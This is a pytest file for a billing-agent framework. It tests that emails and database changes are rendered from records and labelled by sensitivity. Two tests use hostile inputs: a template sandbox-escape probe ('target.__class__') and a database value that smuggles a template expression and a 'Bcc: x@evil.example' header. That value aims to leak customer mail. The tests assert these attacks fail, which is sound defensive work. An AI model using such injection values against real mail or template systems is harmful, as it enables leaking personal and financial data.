"""What an action will do is complete before it is done, and carries the label of what was written into it."""

from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa

from pupitre.errors import OntologyError
from pupitre.labels import Sensitivity, Writer, written_by
from pupitre.ontology.effects import Rendered, Setting, render
from pupitre.ontology.query import Reader
from pupitre.ontology.reading import load
from pupitre.records import Argument, Enclosure, Letter, Message, ProposalId, RowInsert, RowUpdate

from .. import shop

OUTSIDE = written_by(Writer.OUTSIDE, Sensitivity.PERSONAL)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return shop.build(tmp_path / "shop")


def rendered(folder: Path, action: str, target: str | None, **values: str | int) -> Rendered:
    ontology = load(folder)
    reader = Reader(ontology, {"books": sa.create_engine(f"sqlite:///{folder / 'data' / 'books.sqlite'}")})
    setting = Setting(
        reader=reader,
        folder=folder,
        company="Shop",
        person="Claire",
        agent="billing",
        language="en",
        today=date(2026, 11, 23),
        proposal=ProposalId("e1.0.1"),
        message=Message(sender=shop.ANNA, subject="Hello", message_id="<1@x>"),
        message_label=OUTSIDE,
    )
    arguments = {name: Argument(value=value, label=OUTSIDE) for name, value in values.items()}
    return render(action, ontology.actions[action], reader.get(target) if target else None, arguments, setting)


def test_a_letter_is_written_from_the_records_and_labelled_by_what_it_contains(folder: Path) -> None:
    this = rendered(folder, "send_copy", "Invoice:F-0001", to=shop.ANNA)

    assert this.effect == Letter(
        source="mail",
        to=(shop.ANNA,),
        subject="Invoice F-0001",
        body="Hello Anna North, total €120.50.\n",
        attachments=(
            Enclosure(name="F-0001.txt", media_type="text/plain", text="F-0001: €120.50, due 1 December 2026"),
        ),
        in_reply_to="<1@x>",
    )
    assert (this.content.writers, this.content.sensitivity, this.content.subjects) == (
        {Writer.PERSON, Writer.COMPANY},
        Sensitivity.FINANCIAL,
        {"Customer:1"},
    )


def test_a_letter_without_data_is_public(folder: Path) -> None:
    assert rendered(folder, "answer", None, to=shop.ANNA).content == written_by(Writer.PERSON, Sensitivity.PUBLIC)


def test_free_text_carries_the_label_of_its_argument(folder: Path) -> None:
    assert Writer.OUTSIDE in rendered(folder, "reply", None, to=shop.ANNA, body="x").content.writers


def test_a_new_row_links_to_its_object(folder: Path) -> None:
    assert rendered(folder, "note_promise", "Invoice:F-0001", day="2026-12-05").effect == RowInsert(
        source="books",
        table="promises",
        values={"invoice_number": "F-0001", "day": "2026-12-05", "noted_by": "billing"},
    )


def test_a_changed_row_shows_before_and_after(folder: Path) -> None:
    assert rendered(folder, "credit", "Invoice:F-0001", total=5).effect == RowUpdate(
        source="books",
        table="invoices",
        key={"number": "F-0001"},
        before={"total": "120.5"},
        after={"total": "0.05"},
    )


@pytest.mark.parametrize(
    ("template", "message"),
    [
        pytest.param("Subject: x\n\n{{ target.nothing }}", "cannot be filled", id="a property that does not exist"),
        pytest.param("Subject: x\n\n{{ target.__class__ }}", "cannot be filled", id="a way out of the sandbox"),
        pytest.param("Subject: x\n\n{{ target._this }}", "cannot be filled", id="an inner name"),
        pytest.param("Subject: x\n\n{% if %}", "cannot be filled", id="a broken tag"),
        pytest.param("Hello\n", "does not begin with its subject", id="no subject"),
    ],
)
def test_a_template_that_does_not_fit_is_an_error_with_a_hint(folder: Path, template: str, message: str) -> None:
    (folder / "templates" / "copy.en.txt").write_text(template, encoding="utf-8")

    with pytest.raises(OntologyError, match=message):
        rendered(folder, "send_copy", "Invoice:F-0001", to=shop.ANNA)


def test_a_template_cannot_be_tricked_by_the_values_that_it_shows(folder: Path) -> None:
    engine = sa.create_engine(f"sqlite:///{folder / 'data' / 'books.sqlite'}")
    with engine.begin() as connection:
        connection.exec_driver_sql("UPDATE customers SET name = '{{ target.customer.email }}\nBcc: x@evil.example'")

    letter = rendered(folder, "send_copy", "Invoice:F-0001", to=shop.ANNA).effect

    assert isinstance(letter, Letter)
    assert letter.to == (shop.ANNA,)
    assert "{{ target.customer.email }}" in letter.body
